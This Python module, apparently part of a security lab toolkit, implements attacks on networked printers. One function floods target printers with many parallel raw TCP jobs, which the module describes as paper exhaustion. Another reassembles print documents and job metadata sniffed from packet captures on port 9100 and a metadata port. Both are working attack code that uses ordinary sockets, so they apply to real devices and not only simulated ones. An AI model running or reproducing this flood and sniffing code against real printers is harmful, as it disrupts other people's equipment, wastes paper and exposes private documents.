"""Paper-exhaustion flood and passive recovery of print jobs and their metadata."""

from __future__ import annotations

import logging
import socket
import threading
import time
from collections import OrderedDict

from jacklab.attacklab.targets import FloodPlan, FloodReport, Target, TargetReport
from jacklab.simdevices.network import Network, send_tcp
from jacklab.wirecodec import CaptureRecord, PrintJobMetadata, parse_metadata_stream

log = logging.getLogger(__name__)


def bot_lines(data: bytes) -> list[bytes]:
    """Lines of the bot file with their line endings kept, as ``readlines`` returns them."""
    return data.splitlines(keepends=True)


def _send_job(target: Target, lines: list[bytes], network: Network | None, source_ip: str | None, timeout: float) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        if source_ip:
            sock.bind((source_ip, 0))
        sock.settimeout(timeout)
        sock.connect((target.ip, target.port))
        for line in lines:
            send_tcp(network, sock, line + b"\n")


def printjack2(
    plan: FloodPlan,
    network: Network | None = None,
    source_ip: str | None = None,
    timeout: float = 5.0,
    payload: bytes | None = None,
) -> FloodReport:
    """Open ``plan.loops`` connections per target, sending the bot file line by line on each.

    Targets are flooded in parallel, one worker each; a failed connection is
    counted and the worker carries on.
    """
    if payload is None:
        if plan.payload_source is None:
            raise ValueError("printjack2 needs a bot file or payload")
        with open(plan.payload_source, "rb") as fh:
            payload = fh.read()
    lines = bot_lines(payload)
    reports = [TargetReport(t) for t in plan.targets]
    started = time.monotonic()

    def worker(rep: TargetReport) -> None:
        for _ in range(plan.loops):
            rep.attempted += 1
            try:
                _send_job(rep.target, lines, network, source_ip, timeout)
                rep.completed += 1
            except OSError as exc:
                rep.errors += 1
                log.debug("job to %s failed: %s", rep.target.ip, exc)

    threads = [threading.Thread(target=worker, args=(r,), daemon=True) for r in reports]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return FloodReport(reports, time.monotonic() - started)


def _streams(records, keep) -> "OrderedDict[tuple, bytes]":
    streams: OrderedDict[tuple, bytes] = OrderedDict()
    for rec in records:
        if rec.transport == "tcp" and keep(rec):
            key = (rec.src, rec.dst)
            streams[key] = streams.get(key, b"") + rec.payload
    return streams


def sniff_print_jobs(
    capture: list[CaptureRecord], printer_ports=(9100,), metadata_ports=(65002,)
) -> tuple[list[bytes], list[PrintJobMetadata]]:
    """Reassemble job documents sent to the data port and decode the metadata feed.

    A connection is identified by its address pair; documents come out in
    order of each connection's first packet.
    """
    printer_ports = set(printer_ports)
    metadata_ports = set(metadata_ports)
    documents = list(_streams(capture, lambda r: r.dport in printer_ports).values())
    metadata = []
    for stream in _streams(capture, lambda r: r.sport in metadata_ports).values():
        metadata.extend(parse_metadata_stream(stream))
    return documents, metadata
